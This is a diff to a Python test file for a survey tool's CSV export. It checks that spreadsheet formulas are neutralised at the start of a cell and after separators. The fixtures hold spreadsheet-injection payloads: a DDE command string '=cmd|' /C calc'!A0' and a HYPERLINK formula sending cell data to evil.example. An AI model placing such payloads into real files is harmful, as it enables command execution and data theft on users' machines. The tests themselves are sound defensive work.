@@ -1,6 +1,7 @@
 """The CSV and NDJSON exports against golden files, on both databases: nested fields, arrays, unicode,
-formula injection, negative numbers, a form that changed between versions, Excel mode, raw mode, keyset
-batches, and the `survey-bot export` command run as a subprocess.
+formula injection (at the start of a cell, and after a `;` `|` tab or line break where a spreadsheet may split
+it), negative numbers, a form that changed between versions, Excel mode, raw mode, keyset batches, and the
+`survey-bot export` command run as a subprocess.
 
 Regenerate the golden files after an intended format change with `SURVEY_BOT_UPDATE_GOLDEN=1 pytest
 tests/test_export.py`, then read the diff."""
@@ -13,6 +14,7 @@ import io
 import json
 import os
 import pty
+import re
 import subprocess
 import sys
 from collections.abc import AsyncIterator
@@ -22,6 +24,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from spreadsheet_view import formula_cells
 from sqlalchemy.ext.asyncio import AsyncEngine
 
 from survey_bot.forms.load import parse_form
@@ -34,7 +37,7 @@ REPO = Path(__file__).resolve().parent.parent
 GOLDEN = Path(__file__).resolve().parent / "golden"
 SURVEY_BOT = Path(sys.executable).parent / "survey-bot"
 T0 = datetime(2025, 5, 1, 8, 30, tzinfo=UTC)
-SURVEY, INTAKE, LEDGER = "customer_satisfaction", "appointment_intake", "ledger"
+SURVEY, INTAKE, LEDGER, NOTES = "customer_satisfaction", "appointment_intake", "ledger", "notes"
 SURVEY_DOCUMENT = json.loads((REPO / "forms" / f"{SURVEY}.json").read_text())
 INTAKE_DOCUMENT = json.loads((REPO / "forms" / f"{INTAKE}.json").read_text())
 
@@ -54,8 +57,17 @@ LEDGER_DOCUMENT = parse_form({
                    "balance": {"type": "number", "description": "Balance after the change."},
                    "note": {"type": "string", "description": "Free text.", "x-dtmf": False}},
 }, LEDGER).document
+# Free text and arrays, where a `;` `|` tab or line break lets a spreadsheet split a cell (Excel with `;` as the
+# list separator does): a formula after one must be neutralised as at the start of a cell.
+NOTES_DOCUMENT = parse_form({
+    "title": "Notes", "type": "object", "required": ["text"],
+    "properties": {"text": {"type": "string", "description": "Free text.", "x-dtmf": False},
+                   "numbers": {"type": "array", "items": {"type": "number"}, "description": "Some numbers."},
+                   "phones": {"type": "array", "items": {"type": "string"}, "description": "Phone numbers."}},
+}, NOTES).document
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Click me")'
+CMD = "=cmd|' /C calc'!A0"
 DETRACTORS_ONLY = ("improve_first", "topics")  # the survey asks these only when the score is 6 or less
 NEW_SYMPTOMS_ONLY = ("symptoms",)
 
@@ -86,6 +98,7 @@ VERSIONS = [  # (form_id, version, document, created minutes before T0)
     (SURVEY, "cs-v2", SURVEY_DOCUMENT, 60),
     (INTAKE, "ai-v1", INTAKE_DOCUMENT, 600),
     (LEDGER, "ledger-v1", LEDGER_DOCUMENT, 600),
+    (NOTES, "notes-v1", NOTES_DOCUMENT, 600),
 ]
 ROWS = [
     Row(1, SURVEY, "cs-v1", 0, "completed",
@@ -133,6 +146,19 @@ ROWS = [
         {"delta": "dtmf", "balance": "ai", "note": "ai"}),
     Row(23, LEDGER, "ledger-v1", 2, "completed", {"delta": 0, "balance": 1e21, "note": "+44 20 7946 0958"},
         {"delta": "ai", "balance": "ai", "note": "ai"}),
+    *(Row(30 + minute, NOTES, "notes-v1", minute, "completed", answers, dict.fromkeys(answers, "ai"),
+          from_number=caller)
+      for minute, (answers, caller) in enumerate([
+          ({"text": "ok;" + CMD, "numbers": [-5, 3, 4.5], "phones": ["+15551230001", "+15551230002"]}, "+15551230001"),
+          ({"text": "a|=1+1", "numbers": [-0.5, 1e21], "phones": ["+15551230001", "=1+1"]}, "+15551230001|=1+1"),
+          ({"text": "x\t@SUM(A1)", "phones": ["call me", "+15551230002"]}, "+15551230001"),
+          ({"text": "line\n=1+1"}, "+15551230001"),
+          ({"text": "-5;+3;4.5"}, "+15551230001"),
+          ({"text": "+15551230001;+15551230002"}, "+15551230001"),
+          ({"text": "hello;world"}, "+15551230001"),
+          ({"text": 'a;"' + CMD + ";b"}, "+15551230001"),
+          ({"text": "first line\r\n\t-1+2"}, "+15551230001"),
+      ])),
 ]
 
 
@@ -200,10 +226,27 @@ def expected_text(value: Any) -> str:
 
 
 def defused(text: str) -> str:
-    """OWASP: a leading ' on a cell a spreadsheet would evaluate, except numbers and E.164 numbers."""
-    risky = text[:1] in ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
-    number = text.lstrip("+-").replace(".", "", 1).replace("e+", "", 1).isdigit()
-    return "'" + text if risky and not number else text
+    """OWASP: a leading ' on a cell a spreadsheet would evaluate, and a ' after each `;` `|` tab or line break
+    followed (after any `"`) by a formula start, where a spreadsheet may split the cell; numbers and arrays of
+    numbers stay as they are."""
+    parts = re.split(r"(\r\n|[;|\t\r\n])", text)  # piece, separator, piece, ...
+    if all(is_number(piece) for piece in parts[::2]):
+        return text
+    for i in range(2, len(parts), 2):
+        if parts[i].lstrip('"')[:1] in ("=", "+", "-", "@", "\0"):
+            parts[i] = "'" + parts[i]
+    return ("'" if text[:1] in ("=", "+", "-", "@", "\t", "\r", "\n", "\0") else "") + "".join(parts)
+
+
+def is_number(text: str) -> bool:
+    """A plain number (E.164 numbers are such numbers): only the characters of one, and float() reads it."""
+    if not text or not set(text) <= set("0123456789+-.eE"):
+        return False
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
 
 
 def expected_rows(form_id: str, fields: list[str], *, sources: bool, raw: bool) -> list[dict[str, str]]:
@@ -258,6 +301,9 @@ async def test_survey_csv_over_two_versions_with_sources(engine: AsyncEngine) ->
     assert by_id["2"]["improve_first"] == "" and by_id["2"]["improve_first.source"] == ""  # asked, not answered
     assert by_id["2"]["nps"] == "0" and by_id["2"]["would_recommend"] == "false"
     assert by_id["1"]["from"] == "+15551230001"  # E.164 stays as it is
+    # a cell holding `;` or `|` is quoted, so a spreadsheet splitting on them keeps it whole where it can
+    assert ',"\'=cmd|\' /C calc\'!A0",' in text and ',"quality;website",' in text
+    assert formula_cells(text) == []
 
 
 async def test_survey_csv_raw_keeps_formulas(engine: AsyncEngine) -> None:
@@ -284,6 +330,42 @@ async def test_intake_csv_flattens_nested_fields(engine: AsyncEngine) -> None:
     assert rows == expected_rows(INTAKE, INTAKE_FIELDS, sources=False, raw=False)
     assert rows[1]["full_name"] == "山田 太郎" and rows[1]["preferred_slot.date"] == ""
     assert rows[2]["full_name"] == "Zoë O'Brien 🙂" and rows[2]["callback_number"] == "0123456789"
+
+
+NOTES_FIELDS = ["text", "numbers", "phones"]
+
+
+async def test_a_formula_after_a_separator_is_neutralised(engine: AsyncEngine) -> None:
+    text = await export(engine, NOTES, with_sources=True)
+    rows = read_csv(text)
+    assert rows == expected_rows(NOTES, NOTES_FIELDS, sources=True, raw=False)
+    assert [row["text"] for row in rows] == [
+        "ok;'" + CMD, "a|'=1+1", "x\t'@SUM(A1)", "line\n'=1+1",
+        "-5;+3;4.5", "+15551230001;+15551230002", "hello;world",  # arrays of numbers, and text: as they were
+        "a;'\"=cmd|' /C calc'!A0;b", "first line\r\n\t'-1+2"]
+    assert (rows[0]["numbers"], rows[0]["phones"]) == ("-5;3;4.5", "+15551230001;+15551230002")
+    assert (rows[1]["numbers"], rows[1]["phones"]) == ("-0.5;1e+21", "'+15551230001;'=1+1")
+    assert rows[1]["from"] == "'+15551230001|'=1+1"  # not only numbers: both ends
+    assert rows[2]["phones"] == "call me;'+15551230002"  # a number stays only in an array of numbers
+    assert ',"ok;\'=cmd|\' /C calc\'!A0",' in text and ',"hello;world",' in text and ',"x\t\'@SUM(A1)",' in text
+    assert formula_cells(text) == []  # read with `,` `;` `|` or tab as the separator
+    golden("notes.csv", text)
+
+
+async def test_raw_quotes_separators_and_keeps_formulas(engine: AsyncEngine) -> None:
+    text = await export(engine, NOTES, raw=True)
+    rows = read_csv(text)
+    assert rows == expected_rows(NOTES, NOTES_FIELDS, sources=False, raw=True)
+    assert rows[0]["text"] == "ok;" + CMD and rows[1]["from"] == "+15551230001|=1+1"
+    assert ',"ok;=cmd|\' /C calc\'!A0",' in text and ',"x\t@SUM(A1)",' in text  # quoted all the same
+    assert any(cell.startswith(CMD) for _, cell in formula_cells(text))  # unsafe, as --raw says
+    golden("notes.raw.csv", text)
+
+
+@pytest.mark.parametrize("form_id", [SURVEY, INTAKE, LEDGER, NOTES])
+async def test_no_spreadsheet_finds_a_formula_in_any_export(engine: AsyncEngine, form_id: str) -> None:
+    for excel in (False, True):
+        assert formula_cells(await export(engine, form_id, with_sources=True, excel=excel)) == []
 
 
 async def test_negative_and_fractional_numbers_stay_numbers(engine: AsyncEngine) -> None:
